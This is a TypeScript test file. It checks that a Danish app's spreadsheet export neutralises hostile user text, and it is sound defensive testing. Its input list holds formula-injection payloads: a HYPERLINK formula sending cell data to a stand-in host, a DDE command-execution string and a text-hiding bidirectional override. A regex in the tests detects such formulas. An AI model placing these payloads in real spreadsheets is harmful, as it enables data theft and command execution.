import { beforeAll, expect, test } from 'vitest';
import type { Skemamodel } from '#service/features/eksport/index.ts';
import { model } from '../service/eksport/model.ts';
import { exportBytes, partsOf, readWorkbook, SHEETS, sheetPath } from '../service/eksport/workbook.ts';
import { compareResults } from './compare.ts';
import { printed, recalculated } from './libreoffice.ts';

// The workbook of a closed submission in which every text that people typed is hostile: on no sheet does one of them run
// as a formula, give an error or hide what stands beside it.

const LONG = `Antal borgere ${'på vej mod job og uddannelse '.repeat(15)}`.slice(0, 400);
const HOSTILE = [
  LONG,
  '=HYPERLINK("http://ond.invalid/?"&A1;"Klik her")',
  'مشروع التوظيف والتعليم \u202Eesrever\u202C',
  '👩‍🏫🇩🇰 Fagkyndig 🧑🏾‍🔧',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  '<b>"citat"</b> & \'apostrof\' ]]>',
  '=1/0',
  '\t=NA()',
  '#N/A',
  '_x003D_1+1',
] as const;

/** The texts in turn, so that each comes to stand on every sheet. */
function inTurn(): () => string {
  let n = 0;
  return () => HOSTILE[n++ % HOSTILE.length] ?? '';
}

function hostile(): Skemamodel {
  const next = inTurn();
  const base = model();
  const { resultat, bilag, vidne } = base;
  const { siden } = bilag;
  return {
    ...base,
    af: next(),
    vidne: { ...vidne, enheder: vidne.enheder.map((e) => ({ ...e, navn: next() })) },
    forklaringer: Object.fromEntries(Object.keys(bilag.kontrol).map((kode) => [kode, next()])),
    resultat: {
      ...resultat,
      projekt: {
        ...resultat.projekt,
        navn: next(),
        tilskudsmodtager: next(),
        sagsbehandler: next(),
        finansieringskilde: next(),
        indsatsomraade: next(),
      },
      indikatorer: resultat.indikatorer.map((i) => ({
        ...i,
        definition: { ...i.definition, navn: next(), enhed: next() },
        referenceark: i.referenceark.map((linje) => ({ ...linje, tekst: `${next()}\n${next()}` })),
        enheder: i.enheder.map(([raekke, enhed, fra, dato, art, kommune, , antal]) => [
          raekke,
          enhed,
          fra,
          dato,
          art,
          kommune,
          next(),
          antal,
        ]),
      })),
    },
    bilag: {
      ...bilag,
      kontrol: { ...bilag.kontrol, mulige_dubletter: 2, konflikter: 1 },
      evaluering: bilag.evaluering.map((post) => ({ ...post, tekst: `${next()} ${LONG.repeat(12)}` })),
      siden: siden && {
        ...siden,
        indikatorer: siden.indikatorer.map((i) => ({
          ...i,
          navn: next(),
          bevaegelser: i.bevaegelser.map(([art, enhed, foer, nu, grund, rettelser]) => [
            art,
            enhed,
            foer,
            nu,
            grund,
            rettelser,
            next(),
          ]),
        })),
        efterregistreringer: siden.efterregistreringer.map((e) => ({ ...e, begrundelse: next() })),
      },
    },
  };
}

let stored: Uint8Array;
let counted: Uint8Array;
beforeAll(async () => {
  stored = await exportBytes(hostile());
  counted = await recalculated(stored);
}, 240_000);

const formulasOf = (bytes: Uint8Array, sheet: (typeof SHEETS)[number]): string[] =>
  [...readWorkbook(bytes)[sheet]].filter(([, { formula }]) => formula !== null).map(([address]) => address);

test('every formula counts as the app did, and the control sheet says OK', () => {
  const { formulas, deviations } = compareResults(readWorkbook(stored), readWorkbook(counted));
  expect(deviations).toEqual([]);
  expect(formulas).toBeGreaterThan(382);
  expect(readWorkbook(counted).Kontrol.get('C3')?.value).toBe('OK');
});

test.each(SHEETS)('on %s nothing that was typed runs, and no cell shows an error', (sheet) => {
  expect(formulasOf(counted, sheet).toSorted()).toEqual(formulasOf(stored, sheet).toSorted());
  for (const [what, bytes] of [
    ['stored', stored],
    ['counted', counted],
  ] as const) {
    const xml = partsOf(bytes).get(sheetPath(sheet)) ?? '';
    expect(xml.length, what).toBeGreaterThan(500);
    expect(xml.match(/<c [^>]*t="e"/u), what).toBeNull();
    expect(xml.match(/<f[^>]*>[^<]*(?:HYPERLINK|cmd|DDE|NA\()[^<]*<\/f>/iu), what).toBeNull();
    expect(xml.match(/<hyperlink/u), what).toBeNull();
  }
});

test('the texts themselves are there, each made harmless', () => {
  const texts = SHEETS.flatMap((sheet) =>
    [...readWorkbook(counted)[sheet].values()].map(({ value }) => value),
  );
  expect(texts).toContain(`'${HOSTILE[1]}`);
  expect(texts).toContain(LONG.trim());
  expect(texts.filter((t) => typeof t === 'string' && /^[=+@]/u.test(t))).toEqual([]);
  expect(texts.some((t) => typeof t === 'string' && t.includes('\u202E'))).toBe(false);
});

test('no row is higher than Excel draws, and long words get the height they need', () => {
  const heights = SHEETS.flatMap((sheet) =>
    [...(partsOf(stored).get(sheetPath(sheet)) ?? '').matchAll(/<row [^>]* ht="([\d.]+)"/gu)].map(([, ht]) =>
      Number(ht),
    ),
  );
  expect(heights.length).toBeGreaterThan(100);
  expect(Math.max(...heights)).toBe(409);
});

test('it is printed, page by page', async () => {
  const { pages } = await printed(stored);
  expect(pages.length).toBeGreaterThan(SHEETS.length);
  expect(
    pages.filter((page) => /Err:\d|#(?:N\/A|VALUE|NAME|REF)[!?]/u.test(page.replaceAll('#N/A', ''))),
  ).toEqual([]);
}, 240_000);
